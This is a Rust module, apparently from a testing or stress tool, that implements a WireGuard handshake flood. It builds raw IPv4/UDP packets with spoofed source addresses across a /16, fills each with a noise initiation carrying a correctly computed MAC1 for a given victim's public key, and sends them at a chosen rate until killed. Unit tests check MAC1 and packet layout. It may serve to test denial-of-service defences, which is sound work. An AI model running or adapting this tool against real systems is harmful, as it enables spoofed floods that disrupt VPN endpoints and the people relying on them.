//! A stranger that knows a WireGuard peer's public key and nothing else: initiations with a right first MAC, from addresses that are
//! not its own.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, Result};
use blake2::digest::{FixedOutput as _, Mac as _, consts::U16};
use blake2::{Blake2s256, Blake2sMac, Digest as _};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::Outcome;
use crate::report::now;

/// As many messages as are made before the start; then they come again, from other addresses.
const MESSAGES: usize = 4096;
const INITIATION: usize = 148;
const HEADERS: usize = 28;
/// `IPPROTO_RAW`: the IP header comes from us.
const RAW: i32 = 255;
/// How long it sleeps when it is ahead of its rate.
const PAUSE: Duration = Duration::from_millis(1);

/// What a flood is made of.
#[derive(Debug, Clone, clap::Args)]
pub(crate) struct Flood {
    #[arg(long)]
    to: SocketAddrV4,
    /// The victim's public key: 64 hexadecimal digits.
    #[arg(long)]
    key: String,
    /// The network whose 65,536 addresses it says it is.
    #[arg(long)]
    from: Ipv4Addr,
    /// Packets per second.
    #[arg(long)]
    rate: u32,
}

/// The length of each packet in bytes, IP header included.
pub(crate) const PACKET: usize = HEADERS + INITIATION;

/// Sends until it is killed.
pub(crate) fn run(flood: &Flood) -> Result<Outcome> {
    let key = key(&flood.key).context("the key is not 64 hexadecimal digits")?;
    let mut packets: Vec<_> = (0..MESSAGES as u64).map(|number| packet(flood, &key, number)).collect();
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).context("a raw socket")?;
    let to = SockAddr::from(SocketAddrV4::new(*flood.to.ip(), 0));
    let start = now();
    let mut due = 0;
    loop {
        let now_due = u64::from(flood.rate) * u64::try_from(start.elapsed().as_micros())? / 1_000_000;
        if now_due == due {
            thread::sleep(PAUSE);
        }
        // After a pause that was too long it does not catch up all at once: queues would drop that unseen.
        for number in due.max(now_due.saturating_sub(u64::from(flood.rate) / 20))..now_due {
            let packet = &mut packets[number as usize % MESSAGES];
            packet[14..16].copy_from_slice(&(number.wrapping_mul(40_503) as u16).to_be_bytes());
            // A full queue drops it, as the network would.
            let _ = socket.send_to(packet, &to);
        }
        due = now_due;
    }
}

/// IPv4 and UDP, both checksums left to the kernel or out, and an initiation of noise with the MAC that makes it worth reading.
fn packet(flood: &Flood, key: &[u8; 32], number: u64) -> [u8; PACKET] {
    let mut packet = [0; PACKET];
    let (ip, rest) = packet.split_at_mut(20);
    let (udp, message) = rest.split_at_mut(8);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(PACKET as u16).to_be_bytes());
    ip[8..10].copy_from_slice(&[64, 17]);
    ip[12..16].copy_from_slice(&flood.from.octets());
    ip[16..20].copy_from_slice(&flood.to.ip().octets());
    udp[..2].copy_from_slice(&(1024 + (number % 60_000) as u16).to_be_bytes());
    udp[2..4].copy_from_slice(&flood.to.port().to_be_bytes());
    udp[4..6].copy_from_slice(&((8 + INITIATION) as u16).to_be_bytes());
    message[0] = 1;
    for (n, block) in message[4..116].chunks_mut(32).enumerate() {
        let noise = Blake2s256::digest([number.to_le_bytes(), (n as u64).to_le_bytes()].concat());
        block.copy_from_slice(&noise[..block.len()]);
    }
    let mac1 = mac1(key, &message[..116]);
    message[116..132].copy_from_slice(&mac1);
    packet
}

/// WireGuard paper, section 5.4.4.
fn mac1(receiver: &[u8; 32], message: &[u8]) -> [u8; 16] {
    let key = Blake2s256::new().chain_update(b"mac1----").chain_update(receiver).finalize();
    let keyed =
        <Blake2sMac<U16> as blake2::digest::Mac>::new_from_slice(&key).expect("BLAKE2s takes 32 bytes");
    keyed.chain_update(message).finalize_fixed().into()
}

fn key(hex: &str) -> Option<[u8; 32]> {
    let digits: Vec<u8> = hex.chars().map(|c| c.to_digit(16).map(|d| d as u8)).collect::<Option<_>>()?;
    let bytes: Vec<u8> = digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect();
    (digits.len() == 64).then(|| bytes.try_into().ok())?
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An initiation of the project's fixed vectors, to the public key of the secret of 32 times 0x22.
    const INITIATION: &str = "0100000001000000ff2ee45601ec1b67310c7790404585ae697331eee1c1f8cf2419731c1fff3e6b3b6f1324884f7dfcb616f1440bce015ad114bc97a5052c5972a42150ca66244ee95bf0cd2c60d3d9addef329768c8c110ed41251d4d6d7792a1ea831af41baab6c8d4ca280201ae6f48ab9cc";
    const MAC1: &str = "d5f7e7da4cdad0638ec0b8cdb163930e";

    fn bytes(hex: &str) -> Vec<u8> {
        let digits: Vec<u8> = hex.chars().map(|c| c.to_digit(16).unwrap() as u8).collect();
        digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect()
    }

    #[test]
    fn mac1_is_that_of_a_known_initiation() {
        let public = key("0faa684ed28867b97f4a6a2dee5df8ce974e76b7018e3f22a1c4cf2678570f20").unwrap();
        assert_eq!(mac1(&public, &bytes(INITIATION))[..], bytes(MAC1));
    }

    #[test]
    fn a_key_is_64_digits() {
        assert!(key(&"0".repeat(64)).is_some());
        for wrong in ["0f", "", &"g".repeat(64), &"0".repeat(66)] {
            assert_eq!(key(wrong), None, "{wrong}");
        }
    }

    #[test]
    fn each_packet_is_another_initiation_with_right_lengths() {
        let to = "10.0.0.1:51820".parse().unwrap();
        let from = [10, 99, 0, 0].into();
        let flood = Flood { to, key: String::new(), from, rate: 1 };
        let (one, two) = (packet(&flood, &[7; 32], 1), packet(&flood, &[7; 32], 2));
        assert_eq!((one[2..4].to_vec(), one[24..26].to_vec()), (vec![0, 176], vec![0, 156]));
        assert_eq!(one[28..32], [1, 0, 0, 0]);
        assert_ne!(one[32..], two[32..]);
        assert_eq!(one[144..160], mac1(&[7; 32], &one[28..144]));
    }
}
